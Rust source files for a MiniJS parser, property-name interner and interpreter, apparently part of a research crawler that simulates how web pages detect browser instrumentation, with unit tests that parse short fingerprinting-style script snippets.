        let update = if self.at(&Tok::RParen) { None } else { Some(self.expression()?) };
        self.expect(&Tok::RParen)?;
        let body = self.stmt_as_block()?;
        Ok(Stmt::For { init, cond, update, body })
    }

    fn try_stmt(&mut self) -> Result<Stmt, EngineError> {
        self.expect(&Tok::Try)?;
        self.expect(&Tok::LBrace)?;
        let body = self.block_body()?;
        let catch = if self.eat(&Tok::Catch) {
            let param = if self.eat(&Tok::LParen) {
                let name = self.ident()?;
                self.expect(&Tok::RParen)?;
                name
            } else {
                Arc::from("_e")
            };
            self.expect(&Tok::LBrace)?;
            let cbody = self.block_body()?;
            Some((param, cbody))
        } else {
            None
        };
        let finally = if self.eat(&Tok::Finally) {
            self.expect(&Tok::LBrace)?;
            Some(self.block_body()?)
        } else {
            None
        };
        if catch.is_none() && finally.is_none() {
            return Err(self.err("try without catch or finally"));
        }
        Ok(Stmt::Try { body, catch, finally })
    }

    fn block_body(&mut self) -> Result<Vec<Stmt>, EngineError> {
        let mut body = Vec::new();
        while !self.at(&Tok::RBrace) {
            if self.at(&Tok::Eof) {
                return Err(self.err("unexpected end of input in block"));
            }
            body.push(self.statement()?);
        }
        self.expect(&Tok::RBrace)?;
        Ok(body)
    }

    fn stmt_as_block(&mut self) -> Result<Vec<Stmt>, EngineError> {
        if self.eat(&Tok::LBrace) {
            self.block_body()
        } else {
            Ok(vec![self.statement()?])
        }
    }

    // --------------------------------------------------------- expressions

    fn expression(&mut self) -> Result<Expr, EngineError> {
        let first = self.assignment()?;
        if self.at(&Tok::Comma) {
            let mut seq = vec![first];
            while self.eat(&Tok::Comma) {
                seq.push(self.assignment()?);
            }
            Ok(Expr::Sequence(seq))
        } else {
            Ok(first)
        }
    }

    fn assignment(&mut self) -> Result<Expr, EngineError> {
        // Arrow functions: `x => ...` and `(a, b) => ...`.
        if let Some(arrow) = self.try_arrow()? {
            return Ok(arrow);
        }
        let left = self.ternary()?;
        let op = match self.peek() {
            Tok::Assign => AssignOp::Assign,
            Tok::PlusAssign => AssignOp::Add,
            Tok::MinusAssign => AssignOp::Sub,
            Tok::StarAssign => AssignOp::Mul,
            Tok::SlashAssign => AssignOp::Div,
            _ => return Ok(left),
        };
        self.bump();
        let target = self.as_target(left)?;
        let value = self.assignment()?;
        Ok(Expr::Assign { op, target, value: Box::new(value) })
    }

    fn as_target(&self, e: Expr) -> Result<Target, EngineError> {
        match e {
            Expr::Ident(name) => Ok(Target::Ident(name)),
            Expr::Member { base, key, .. } => Ok(Target::Member(base, key)),
            Expr::Index { base, index, .. } => Ok(Target::Index(base, index)),
            _ => Err(self.err("invalid assignment target")),
        }
    }

    /// Try to parse an arrow function at the current position; restores the
    /// cursor on failure.
    fn try_arrow(&mut self) -> Result<Option<Expr>, EngineError> {
        let save = self.pos;
        let start_tok = self.tokens[self.pos].start;
        let line = self.line();
        let params: Vec<Arc<str>> = if let Tok::Ident(name) = self.peek().clone() {
            if *self.peek2() != Tok::Arrow {
                return Ok(None);
            }
            self.bump();
            vec![name]
        } else if self.at(&Tok::LParen) {
            // Scan ahead: `(` ident-list `)` `=>`.
            let mut params = Vec::new();
            self.bump();
            loop {
                match self.peek().clone() {
                    Tok::RParen => {
                        self.bump();
                        break;
                    }
                    Tok::Ident(name) => {
                        self.bump();
                        params.push(name);
                        if !self.eat(&Tok::Comma) && !self.at(&Tok::RParen) {
                            self.pos = save;
                            return Ok(None);
                        }
                    }
                    _ => {
                        self.pos = save;
                        return Ok(None);
                    }
                }
            }
            if !self.at(&Tok::Arrow) {
                self.pos = save;
                return Ok(None);
            }
            params
        } else {
            return Ok(None);
        };
        self.expect(&Tok::Arrow)?;
        let body: Vec<Stmt> = if self.eat(&Tok::LBrace) {
            self.block_body()?
        } else {
            let e = self.assignment()?;
            vec![Stmt::Return(Some(e))]
        };
        let end = self.tokens[self.pos].start;
        let source: Arc<str> = Arc::from(self.src[start_tok..end].trim_end());
        Ok(Some(Expr::Function(Arc::new(FunctionDef {
            name: Arc::from(""),
            params,
            body: body.into(),
            source,
            script: self.script.clone(),
            line,
            is_arrow: true,
        }))))
    }

    fn ternary(&mut self) -> Result<Expr, EngineError> {
        let cond = self.binary(0)?;
        if self.eat(&Tok::Question) {
            let then = self.assignment()?;
            self.expect(&Tok::Colon)?;
            let otherwise = self.assignment()?;
            Ok(Expr::Ternary {
                cond: Box::new(cond),
                then: Box::new(then),
                otherwise: Box::new(otherwise),
            })
        } else {
            Ok(cond)
        }
    }

    /// Precedence-climbing binary expression parser.
    fn binary(&mut self, min_prec: u8) -> Result<Expr, EngineError> {
        let mut left = self.unary()?;
        loop {
            let (prec, op) = match self.peek() {
                Tok::OrOr => (1, None),
                Tok::AndAnd => (2, None),
                Tok::BitOr => (3, Some(BinOp::BitOr)),
                Tok::BitXor => (4, Some(BinOp::BitXor)),
                Tok::BitAnd => (5, Some(BinOp::BitAnd)),
                Tok::EqEq => (6, Some(BinOp::Eq)),
                Tok::NotEq => (6, Some(BinOp::NotEq)),
                Tok::EqEqEq => (6, Some(BinOp::StrictEq)),
                Tok::NotEqEq => (6, Some(BinOp::StrictNotEq)),
                Tok::Lt => (7, Some(BinOp::Lt)),
                Tok::Gt => (7, Some(BinOp::Gt)),
                Tok::Le => (7, Some(BinOp::Le)),
                Tok::Ge => (7, Some(BinOp::Ge)),
                Tok::In => (7, Some(BinOp::In)),
                Tok::Instanceof => (7, Some(BinOp::InstanceOf)),
                Tok::Shl => (8, Some(BinOp::Shl)),
                Tok::Shr => (8, Some(BinOp::Shr)),
                Tok::UShr => (8, Some(BinOp::UShr)),
                Tok::Plus => (9, Some(BinOp::Add)),
                Tok::Minus => (9, Some(BinOp::Sub)),
                Tok::Star => (10, Some(BinOp::Mul)),
                Tok::Slash => (10, Some(BinOp::Div)),
                Tok::Percent => (10, Some(BinOp::Rem)),
                _ => break,
            };
            if prec < min_prec {
                break;
            }
            let is_and = self.at(&Tok::AndAnd);
            self.bump();
            let right = self.binary(prec + 1)?;
            left = match op {
                Some(op) => Expr::Binary { op, left: Box::new(left), right: Box::new(right) },
                None => Expr::Logical { and: is_and, left: Box::new(left), right: Box::new(right) },
            };
        }
        Ok(left)
    }

    fn unary(&mut self) -> Result<Expr, EngineError> {
        let op = match self.peek() {
            Tok::Minus => Some(UnOp::Neg),
            Tok::Plus => Some(UnOp::Plus),
            Tok::Not => Some(UnOp::Not),
            Tok::Tilde => Some(UnOp::BitNot),
            Tok::Typeof => Some(UnOp::TypeOf),
            _ => None,
        };
        if let Some(op) = op {
            self.bump();
            let operand = self.unary()?;
            return Ok(Expr::Unary { op, operand: Box::new(operand) });
        }
        if self.at(&Tok::Delete) {
            self.bump();
            let e = self.unary()?;
            let target = self.as_target(e)?;
            return Ok(Expr::Delete(target));
        }
        if self.at(&Tok::PlusPlus) || self.at(&Tok::MinusMinus) {
            let inc = self.at(&Tok::PlusPlus);
            self.bump();
            let e = self.unary()?;
            let target = self.as_target(e)?;
            return Ok(Expr::Update { target, inc, prefix: true });
        }
        if self.at(&Tok::New) {
            let line = self.line();
            self.bump();
            let prim = self.primary_for_new()?;
            let callee = self.member_chain(prim)?;
            let args = if self.at(&Tok::LParen) { self.arguments()? } else { Vec::new() };
            let new_expr = Expr::New { callee: Box::new(callee), args, line };
            // Allow member access / calls on the construction result.
            return self.postfix_chain(new_expr);
        }
        let prim = self.primary()?;
        let chained = self.postfix_chain(prim)?;
        // Postfix update.
        if self.at(&Tok::PlusPlus) || self.at(&Tok::MinusMinus) {
            let inc = self.at(&Tok::PlusPlus);
            self.bump();
            let target = self.as_target(chained)?;
            return Ok(Expr::Update { target, inc, prefix: false });
        }
        Ok(chained)
    }

    /// For `new`, the callee is a member chain without call suffixes.
    fn primary_for_new(&mut self) -> Result<Expr, EngineError> {
        self.primary()
    }

    fn member_chain(&mut self, mut base: Expr) -> Result<Expr, EngineError> {
        loop {
            if self.at(&Tok::Dot) {
                let line = self.line();
                self.bump();
                let key = self.member_name()?;
                base = Expr::Member { base: Box::new(base), key, line };
            } else if self.at(&Tok::LBracket) {
                let line = self.line();
                self.bump();
                let index = self.expression()?;
                self.expect(&Tok::RBracket)?;
                base = Expr::Index { base: Box::new(base), index: Box::new(index), line };
            } else {
                return Ok(base);
            }
        }
    }

    fn postfix_chain(&mut self, mut base: Expr) -> Result<Expr, EngineError> {
        loop {
            if self.at(&Tok::Dot) || self.at(&Tok::LBracket) {
                base = self.member_chain(base)?;
            } else if self.at(&Tok::LParen) {
                let line = self.line();
                let args = self.arguments()?;
                base = Expr::Call { callee: Box::new(base), args, line };
            } else {
                return Ok(base);
            }
        }
    }

    /// Member names may be keywords (`obj.delete` etc.).
    fn member_name(&mut self) -> Result<Arc<str>, EngineError> {
        let tok = self.bump();
        let name: Arc<str> = match tok.kind {
            Tok::Ident(name) => name,
            Tok::Delete => Arc::from("delete"),
            Tok::New => Arc::from("new"),
            Tok::In => Arc::from("in"),
            Tok::Of => Arc::from("of"),
            Tok::Catch => Arc::from("catch"),
            Tok::Typeof => Arc::from("typeof"),
            Tok::Throw => Arc::from("throw"),
            Tok::This => Arc::from("this"),
            Tok::Function => Arc::from("function"),
            Tok::Return => Arc::from("return"),
            Tok::Continue => Arc::from("continue"),
            Tok::For => Arc::from("for"),
            other => {
                return Err(EngineError::Parse {
                    line: tok.line,
                    message: format!("expected member name, found {other:?}"),
                })
            }
        };
        Ok(name)
    }

    fn arguments(&mut self) -> Result<Vec<Expr>, EngineError> {
        self.expect(&Tok::LParen)?;
        let mut args = Vec::new();
        if !self.at(&Tok::RParen) {
            loop {
                args.push(self.assignment()?);
                if !self.eat(&Tok::Comma) {
                    break;
                }
            }
        }
        self.expect(&Tok::RParen)?;
        Ok(args)
    }

    fn primary(&mut self) -> Result<Expr, EngineError> {
        let tok = self.tokens[self.pos].clone();
        match tok.kind {
            Tok::Num(n) => {
                self.bump();
                Ok(Expr::Num(n))
            }
            Tok::Str(s) => {
                self.bump();
                Ok(Expr::Str(s))
            }
            Tok::True => {
                self.bump();
                Ok(Expr::Bool(true))
            }
            Tok::False => {
                self.bump();
                Ok(Expr::Bool(false))
            }
            Tok::Null => {
                self.bump();
                Ok(Expr::Null)
            }
            Tok::Undefined => {
                self.bump();
                Ok(Expr::Undefined)
            }
            Tok::This => {
                self.bump();
                Ok(Expr::This)
            }
            Tok::Ident(name) => {
                self.bump();
                Ok(Expr::Ident(name))
            }
            Tok::Of => {
                self.bump();
                Ok(Expr::Ident(Arc::from("of")))
            }
            Tok::LParen => {
                self.bump();
                let e = self.expression()?;
                self.expect(&Tok::RParen)?;
                Ok(e)
            }
            Tok::LBracket => self.array_literal(),
            Tok::LBrace => self.object_literal(),
            Tok::Function => Ok(Expr::Function(self.function(false)?)),
            other => Err(self.err(format!("unexpected token {other:?}"))),
        }
    }

    fn array_literal(&mut self) -> Result<Expr, EngineError> {
        self.expect(&Tok::LBracket)?;
        let mut items = Vec::new();
        if !self.at(&Tok::RBracket) {
            loop {
                items.push(self.assignment()?);
                if !self.eat(&Tok::Comma) {
                    break;
                }
                if self.at(&Tok::RBracket) {
                    break; // trailing comma
                }
            }
        }
        self.expect(&Tok::RBracket)?;
        Ok(Expr::Array(items))
    }

    fn object_literal(&mut self) -> Result<Expr, EngineError> {
        self.expect(&Tok::LBrace)?;
        let mut pairs = Vec::new();
        if !self.at(&Tok::RBrace) {
            loop {
                let key: Arc<str> = match self.peek().clone() {
                    Tok::Str(s) => {
                        self.bump();
                        s
                    }
                    Tok::Num(n) => {
                        self.bump();
                        Arc::from(crate::value::number_to_string(n))
                    }
                    _ => self.member_name()?,
                };
                let value = if self.eat(&Tok::Colon) {
                    self.assignment()?
                } else {
                    // Shorthand `{key}`.
                    Expr::Ident(key.clone())
                };
                pairs.push((key, value));
                if !self.eat(&Tok::Comma) {
                    break;
                }
                if self.at(&Tok::RBrace) {
                    break; // trailing comma
                }
            }
        }
        self.expect(&Tok::RBrace)?;
        Ok(Expr::Object(pairs))
    }

    /// Parse a `function name(params) { body }`; `require_name` for
    /// declarations.
    fn function(&mut self, require_name: bool) -> Result<Arc<FunctionDef>, EngineError> {
        let start = self.tokens[self.pos].start;
        let line = self.line();
        self.expect(&Tok::Function)?;
        let name: Arc<str> = if let Tok::Ident(_) = self.peek() {
            self.ident()?
        } else if require_name {
            return Err(self.err("function declaration requires a name"));
        } else {
            Arc::from("")
        };
        self.expect(&Tok::LParen)?;
        let mut params = Vec::new();
        if !self.at(&Tok::RParen) {
            loop {
                params.push(self.ident()?);
                if !self.eat(&Tok::Comma) {
                    break;
                }
            }
        }
        self.expect(&Tok::RParen)?;
        self.expect(&Tok::LBrace)?;
        let body = self.block_body()?;
        let end = self.tokens[self.pos].start;
        // The function source runs from the `function` keyword through the
        // closing brace; the next token's start bounds it, so trim trailing
        // whitespace off the slice.
        let source: Arc<str> = Arc::from(self.src[start..end].trim_end());
        Ok(Arc::new(FunctionDef {
            name,
            params,
            body: body.into(),
            source,
            script: self.script.clone(),
            line,
            is_arrow: false,
        }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ok(src: &str) -> Program {
        parse(src, "test").unwrap()
    }

    #[test]
    fn parses_var_and_expr() {
        let p = ok("var x = 1 + 2 * 3; x");
        assert_eq!(p.body.len(), 2);
    }

    #[test]
    fn function_source_is_verbatim() {
        let src = "function probe(a) {\n  return a + 1;\n}";
        let p = ok(src);
        match &p.body[0] {
            Stmt::FunctionDecl(def) => assert_eq!(&*def.source, src),
            other => panic!("expected function decl, got {other:?}"),
        }
    }

    #[test]
    fn member_call_chain() {
        ok("navigator.userAgent.indexOf('Headless') !== -1");
        ok("window['navigator']['webdriver']");
        ok("a.b.c(1, 2)(3)[4].e");
    }

    #[test]
    fn for_in_variants() {
        ok("for (var k in navigator) { count = count + 1; }");
        ok("for (k in window) probe(k);");
        ok("for (var v of list) { sum += v; }");
    }

    #[test]
    fn arrow_functions() {
        ok("var f = x => x * 2;");
        ok("var g = (a, b) => { return a + b; };");
        ok("document.dispatchEvent = (event) => { blocked.push(event); };");
        ok("var h = () => 42;");
    }

    #[test]
    fn try_catch_throw() {
        ok("try { risky(); } catch (e) { seen = e.stack; } finally { done = true; }");
        ok("try { x(); } catch { y(); }");
        ok("throw new Error('boom');");
    }

    #[test]
    fn object_and_array_literals() {
        ok("var o = { a: 1, 'b c': 2, 3: 'x', shorthand, };");
        ok("var a = [1, 'two', [3], { four: 4 },];");
    }

    #[test]
    fn new_with_member_access() {
        ok("new Error('x').stack");
        ok("var e = new window.CustomEvent('t', { detail: d });");
    }

    #[test]
    fn delete_and_typeof() {
        ok("delete window.getInstrumentJS;");
        ok("typeof navigator.webdriver === 'undefined'");
        ok("'webdriver' in navigator");
    }

    #[test]
    fn update_expressions() {
        ok("i++; ++i; i--; --i; a[i]++;");
    }

    #[test]
    fn parse_error_reports_line() {
        match parse("var x = 1;\nvar = 2;", "t") {
            Err(EngineError::Parse { line, .. }) => assert_eq!(line, 2),
            other => panic!("expected parse error, got {other:?}"),
        }
    }

    #[test]
    fn ternary_and_sequence() {
        ok("var r = cond ? a : b;");
        ok("x = (a, b, c);");
    }

    #[test]
    fn keywords_as_member_names() {
        ok("obj.delete(); obj.new; obj.in; obj.catch(fn);");
    }
}
