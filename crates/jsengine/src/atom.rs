//! Property-name atoms: process-wide interned `u32` handles for the
//! strings the engine looks up hottest — object property names and scope
//! variable names.
//!
//! Before atoms, every property access re-hashed an owned string and every
//! scope-chain step hashed it again; under the work-stealing crawl
//! scheduler those lookups are the JS engine's hottest shared-nothing
//! path. An [`Atom`] is interned once and then compared and hashed as a
//! bare integer ([`AtomMap`] hashes the id with one multiply).
//!
//! The interner mirrors the [`CompileCache`](crate::compile::CompileCache)
//! idiom: a striped global table (shard picked by FNV of the name) so
//! concurrent realms on different worker threads rarely contend, fronted
//! by a per-thread positive cache so steady-state interning takes no lock
//! at all. Ids are append-only and never freed — the id space is bounded
//! by the number of *distinct* names a crawl ever uses (a few hundred for
//! the synthetic corpus), not by visit count. Interp realms are `!Send`,
//! but atom ids are global: an atom interned on one worker names the same
//! string on every other, so maps keyed by [`Atom`] stay meaningful if a
//! structure is ever serialised across workers.

use std::collections::HashMap;
use std::hash::{BuildHasherDefault, Hasher};
use std::sync::{Arc, Mutex, OnceLock, RwLock};

use crate::compile::fnv1a;

/// Interner stripes; like the compile cache, enough that a worker fleet
/// rarely collides on first-intern of distinct names.
const ATOM_SHARDS: usize = 16;

/// An interned property/variable name. Two atoms are equal iff their
/// strings are equal, so maps can key on the `u32` alone.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Atom(u32);

struct Interner {
    /// name → id, striped by FNV of the name.
    shards: Vec<Mutex<HashMap<Arc<str>, u32>>>,
    /// id → name, append-only.
    names: RwLock<Vec<Arc<str>>>,
}

fn global() -> &'static Interner {
    static INTERNER: OnceLock<Interner> = OnceLock::new();
    INTERNER.get_or_init(|| Interner {
        shards: (0..ATOM_SHARDS).map(|_| Mutex::new(HashMap::new())).collect(),
        names: RwLock::new(Vec::new()),
    })
}

thread_local! {
    /// Per-thread positive cache (name → atom). Entries are never
    /// invalidated: atoms are global, append-only and live for the
    /// process, so a cached id can't go stale.
    static CACHE: std::cell::RefCell<HashMap<Arc<str>, Atom>> =
        std::cell::RefCell::new(HashMap::new());
}

impl Atom {
    /// Intern `name`, allocating an `Arc<str>` only on this thread's first
    /// sight of it.
    pub fn intern(name: &str) -> Atom {
        CACHE.with(|c| {
            if let Some(&a) = c.borrow().get(name) {
                return a;
            }
            let arc: Arc<str> = Arc::from(name);
            let a = intern_global(&arc);
            c.borrow_mut().insert(arc, a);
            a
        })
    }

    /// [`Atom::intern`] for callers that already hold an `Arc<str>` —
    /// shares the allocation instead of copying the string.
    pub fn intern_arc(name: &Arc<str>) -> Atom {
        CACHE.with(|c| {
            if let Some(&a) = c.borrow().get(&**name) {
                return a;
            }
            let a = intern_global(name);
            c.borrow_mut().insert(name.clone(), a);
            a
        })
    }

    /// The atom for `name` if it was ever interned, without interning it.
    /// `None` is a definitive miss: every map keyed by [`Atom`] interns on
    /// insert, so a never-interned name cannot be a key anywhere.
    pub fn lookup(name: &str) -> Option<Atom> {
        CACHE.with(|c| {
            if let Some(&a) = c.borrow().get(name) {
                return Some(a);
            }
            let interner = global();
            let shard = &interner.shards[fnv1a(name.as_bytes()) as usize % ATOM_SHARDS];
            let found = shard.lock().unwrap().get_key_value(name).map(|(k, &id)| (k.clone(), id));
            found.map(|(key, id)| {
                let a = Atom(id);
                c.borrow_mut().insert(key, a);
                a
            })
        })
    }

    /// The interned string.
    pub fn name(self) -> Arc<str> {
        global().names.read().unwrap()[self.0 as usize].clone()
    }

    /// The raw id (diagnostics, tests).
    pub fn as_u32(self) -> u32 {
        self.0
    }
}

fn intern_global(name: &Arc<str>) -> Atom {
    let interner = global();
    let shard = &interner.shards[fnv1a(name.as_bytes()) as usize % ATOM_SHARDS];
    let mut map = shard.lock().unwrap();
    if let Some(&id) = map.get(&**name) {
        return Atom(id);
    }
    // Id allocation nests the names lock inside the shard lock; the names
    // lock never takes a shard lock, so the order is acyclic.
    let mut names = interner.names.write().unwrap();
    let id = u32::try_from(names.len()).expect("atom id space exhausted");
    names.push(name.clone());
    drop(names);
    map.insert(name.clone(), id);
    Atom(id)
}

/// Hasher for atom keys: the id already is the identity, so one
/// Fibonacci multiply spreads it across the table — no byte-wise hashing.
#[derive(Default)]
pub struct AtomIdHasher(u64);

impl Hasher for AtomIdHasher {
    fn finish(&self) -> u64 {
        self.0
    }

    fn write(&mut self, bytes: &[u8]) {
        // Derived `Hash` for `Atom` only calls `write_u32`; keep a
        // correct fallback anyway.
        self.0 = fnv1a(bytes);
    }

    fn write_u32(&mut self, i: u32) {
        self.0 = (i as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15);
    }
}

/// A map keyed by [`Atom`] with identity hashing — the engine's property
/// indexes and scope tables.
pub type AtomMap<V> = HashMap<Atom, V, BuildHasherDefault<AtomIdHasher>>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_is_idempotent_and_named() {
        let a = Atom::intern("alpha-test-name");
        let b = Atom::intern("alpha-test-name");
        assert_eq!(a, b);
        assert_eq!(&*a.name(), "alpha-test-name");
        let arc: Arc<str> = Arc::from("alpha-test-name");
        assert_eq!(Atom::intern_arc(&arc), a);
    }

    #[test]
    fn lookup_never_interns() {
        assert_eq!(Atom::lookup("never-interned-name-xyzzy"), None);
        let a = Atom::intern("later-interned-name");
        assert_eq!(Atom::lookup("later-interned-name"), Some(a));
    }

    #[test]
    fn atoms_agree_across_threads() {
        let here = Atom::intern("cross-thread-name");
        let there = std::thread::spawn(|| Atom::intern("cross-thread-name"))
            .join()
            .unwrap();
        assert_eq!(here, there);
    }

    #[test]
    fn concurrent_interning_yields_unique_ids() {
        let names: Vec<String> = (0..200).map(|i| format!("stress-atom-{i}")).collect();
        let atoms: Vec<Vec<Atom>> = std::thread::scope(|s| {
            (0..4)
                .map(|_| {
                    let names = &names;
                    s.spawn(move || names.iter().map(|n| Atom::intern(n)).collect())
                })
                .collect::<Vec<_>>()
                .into_iter()
                .map(|h| h.join().unwrap())
                .collect()
        });
        for per_thread in &atoms[1..] {
            assert_eq!(per_thread, &atoms[0], "same name must atomise identically everywhere");
        }
        let unique: std::collections::HashSet<Atom> = atoms[0].iter().copied().collect();
        assert_eq!(unique.len(), names.len());
    }

    #[test]
    fn atom_map_behaves_like_a_map() {
        let mut m: AtomMap<u32> = AtomMap::default();
        m.insert(Atom::intern("k1"), 1);
        m.insert(Atom::intern("k2"), 2);
        assert_eq!(m.get(&Atom::intern("k1")), Some(&1));
        assert_eq!(m.len(), 2);
    }
}
