//! The tree-walking interpreter.
//!
//! The interpreter owns the heap, the global object, the call stack (from
//! which `Error.stack` strings are built — the artefact Sec. 3.1.4 of the
//! paper exploits), and a virtual-time job queue for `setTimeout` (which is
//! what makes the iframe-injection race of Sec. 5.4.1 expressible: page
//! scripts run synchronously while extension content scripts are injected as
//! queued jobs).

use std::cell::RefCell;
use std::rc::Rc;
use std::sync::Arc;

use crate::ast::*;
use crate::atom::{Atom, AtomMap};
use crate::error::{EngineError, Thrown};
use crate::object::{Callable, Heap, JsObject, ObjId, Property, Slot};
use crate::parser::parse;
use crate::profiler::{CountingProfiler, Profile, Profiler};
use crate::value::Value;

/// Native function signature. Receives the interpreter, the `this` value and
/// the argument list. Host crates build these with closures over host state.
pub type NativeFn = Rc<dyn Fn(&mut Interp, Value, &[Value]) -> Result<Value, Thrown>>;

/// A lexical scope. Function-level scoping (`var` semantics).
///
/// Bindings are keyed by interned [`Atom`]s, so walking the scope chain
/// probes `u32` keys instead of re-hashing the identifier at every level.
#[derive(Debug, Default)]
pub struct Scope {
    pub vars: AtomMap<Value>,
    pub parent: Option<ScopeRef>,
    /// `this` binding of the activation that created this scope; `None`
    /// means "inherit from parent" (arrow functions, blocks).
    pub this_val: Option<Value>,
}

pub type ScopeRef = Rc<RefCell<Scope>>;

/// One call-stack frame. `Error.stack` renders these as `name@script:line`,
/// which is how a web page observes whether an API call travelled through an
/// instrumentation wrapper defined in an extension script.
#[derive(Clone, Debug)]
pub struct Frame {
    pub name: Arc<str>,
    pub script: Arc<str>,
    pub line: u32,
}

/// A queued timer job (virtual time, milliseconds).
pub struct Job {
    pub due: u64,
    pub seq: u64,
    pub func: Value,
    pub args: Vec<Value>,
}

/// The intrinsic prototypes and constructors created at realm birth.
#[derive(Clone, Copy, Debug)]
pub struct Intrinsics {
    pub object_proto: ObjId,
    pub function_proto: ObjId,
    pub array_proto: ObjId,
    pub string_proto: ObjId,
    pub number_proto: ObjId,
    pub boolean_proto: ObjId,
    pub error_proto: ObjId,
    pub type_error_proto: ObjId,
    pub reference_error_proto: ObjId,
    pub range_error_proto: ObjId,
}

/// Statement completion.
pub(crate) enum Flow {
    Normal,
    Return(Value),
    Break,
    Continue,
}

/// The MiniJS interpreter for one realm.
pub struct Interp {
    pub heap: Heap,
    /// The global object (`window` once the browser crate dresses it up).
    pub global: ObjId,
    pub intrinsics: Intrinsics,
    /// Live call stack, innermost last.
    pub stack: Vec<Frame>,
    global_scope: ScopeRef,
    /// Virtual clock in milliseconds; advanced by the host.
    pub now_ms: u64,
    jobs: Vec<Job>,
    job_seq: u64,
    /// Executed-statement budget; guards against runaway scripts in the
    /// 100K-site scan. Generous enough for the full corpus.
    pub step_limit: u64,
    steps: u64,
    /// Maximum interpreter recursion depth.
    pub max_depth: usize,
    /// `console.log` output, for tests and diagnostics.
    pub console: Vec<String>,
    /// Deterministic PRNG state for `Math.random` (xorshift64*).
    pub rng_state: u64,
    /// Opt-in profiling hooks; `None` costs one branch per hook site.
    pub profiler: Option<Box<dyn Profiler>>,
    /// Opaque embedder state. The browser crate attaches its per-page host
    /// here so native functions can reach it *at call time* instead of
    /// capturing it at install time — which is what makes an installed
    /// realm reusable as a [`clone_realm`](Interp::clone_realm) template.
    pub host: Option<Rc<dyn std::any::Any>>,
    /// Execution backend for script code (tree-walking oracle or bytecode
    /// VM). Initialised from [`crate::vm::default_engine`]; hosts may flip
    /// it per realm before running scripts.
    pub engine: crate::vm::Engine,
    /// Memoised function-body chunks for the VM, keyed by the address of
    /// the pinned [`FunctionDef`] `Arc` (the entry holds the `Arc`, so the
    /// address cannot be reused while the memo lives). Seeded from a cached
    /// script's [`ScriptChunk`](crate::bytecode::ScriptChunk); functions
    /// born outside one (via raw source or `eval`) compile lazily on first
    /// call.
    fn_chunks: std::collections::HashMap<usize, (Arc<FunctionDef>, Arc<crate::bytecode::Chunk>)>,
    /// Spare value stacks for [`crate::vm::run_chunk`] activations, so a
    /// VM function call does not pay a heap allocation per invocation
    /// (recursion depth bounds the pool size).
    pub(crate) vm_stacks: Vec<Vec<Value>>,
}

impl Default for Interp {
    fn default() -> Self {
        Interp::new()
    }
}

impl Interp {
    /// Build a fresh realm with all builtins installed.
    pub fn new() -> Interp {
        let mut heap = Heap::new();
        // Bootstrap: object proto first, everything else hangs off it.
        let object_proto = heap.alloc(JsObject::plain(None));
        let function_proto = heap.alloc(JsObject::with_class(Some(object_proto), "Function"));
        let array_proto = heap.alloc(JsObject::plain(Some(object_proto)));
        let string_proto = heap.alloc(JsObject::plain(Some(object_proto)));
        let number_proto = heap.alloc(JsObject::plain(Some(object_proto)));
        let boolean_proto = heap.alloc(JsObject::plain(Some(object_proto)));
        let error_proto = heap.alloc(JsObject::with_class(Some(object_proto), "Error"));
        let type_error_proto = heap.alloc(JsObject::with_class(Some(error_proto), "Error"));
        let reference_error_proto = heap.alloc(JsObject::with_class(Some(error_proto), "Error"));
        let range_error_proto = heap.alloc(JsObject::with_class(Some(error_proto), "Error"));
        let global = heap.alloc(JsObject::with_class(Some(object_proto), "Window"));

        let global_scope = Rc::new(RefCell::new(Scope {
            vars: AtomMap::default(),
            parent: None,
            this_val: Some(Value::Obj(global)),
        }));

        let mut interp = Interp {
            heap,
            global,
            intrinsics: Intrinsics {
                object_proto,
                function_proto,
                array_proto,
                string_proto,
                number_proto,
                boolean_proto,
                error_proto,
                type_error_proto,
                reference_error_proto,
                range_error_proto,
            },
            stack: Vec::new(),
            global_scope,
            now_ms: 0,
            jobs: Vec::new(),
            job_seq: 0,
            step_limit: 20_000_000,
            steps: 0,
            max_depth: 80,
            console: Vec::new(),
            rng_state: 0x9E3779B97F4A7C15,
            profiler: None,
            host: None,
            engine: crate::vm::default_engine(),
            fn_chunks: std::collections::HashMap::new(),
            vm_stacks: Vec::new(),
        };
        crate::builtins::install(&mut interp);
        interp
    }

    /// Duplicate this realm's object graph into a fresh interpreter.
    ///
    /// The heap, global object and intrinsics are cloned with object ids
    /// preserved, and the global scope's bindings are copied; all transient
    /// execution state — call stack, virtual clock, job queue, step count,
    /// console, PRNG, profiler, host handle — resets to the [`Interp::new`]
    /// defaults, so a clone behaves exactly like a freshly-built realm.
    ///
    /// Script functions closed over the *global* scope are re-bound to the
    /// clone's global scope; closures over inner scopes keep pointing at
    /// the original's (shared) environments, so a realm should be cloned
    /// before running scripts that retain such closures. The intended use
    /// is a host-object template: install the (purely native) embedder
    /// surface once, then clone per page.
    pub fn clone_realm(&self) -> Interp {
        let mut heap = self.heap.clone();
        let gs = self.global_scope.borrow();
        let global_scope = Rc::new(RefCell::new(Scope {
            vars: gs.vars.clone(),
            parent: None,
            this_val: gs.this_val.clone(),
        }));
        drop(gs);
        for obj in heap.objects_mut() {
            if let Some(Callable::Script { env, .. }) = &mut obj.call {
                if Rc::ptr_eq(env, &self.global_scope) {
                    *env = global_scope.clone();
                }
            }
        }
        Interp {
            heap,
            global: self.global,
            intrinsics: self.intrinsics,
            stack: Vec::new(),
            global_scope,
            now_ms: 0,
            jobs: Vec::new(),
            job_seq: 0,
            step_limit: self.step_limit,
            steps: 0,
            max_depth: self.max_depth,
            console: Vec::new(),
            rng_state: 0x9E3779B97F4A7C15,
            profiler: None,
            host: None,
            // Re-read at clone time, so templates built before the host
            // picked a backend still produce pages on the current one.
            engine: crate::vm::default_engine(),
            fn_chunks: self.fn_chunks.clone(),
            vm_stacks: Vec::new(),
        }
    }

    // ------------------------------------------------------------- public

    /// Parse and execute `src` as a top-level script named `script_name`.
    /// Returns the value of the final expression statement.
    pub fn eval_script(&mut self, src: &str, script_name: &str) -> Result<Value, EngineError> {
        let program = parse(src, script_name)?;
        self.eval_program(&program, &Arc::from(script_name))
    }

    /// Execute a pre-compiled script artifact. The shared
    /// [`Program`](crate::ast::Program) is never mutated, so one
    /// [`CompiledScript`](crate::compile::CompiledScript) can serve every
    /// interpreter in the process. Under the VM backend this reuses the
    /// script's once-compiled bytecode chunk (compiling it on first use).
    pub fn eval_compiled(
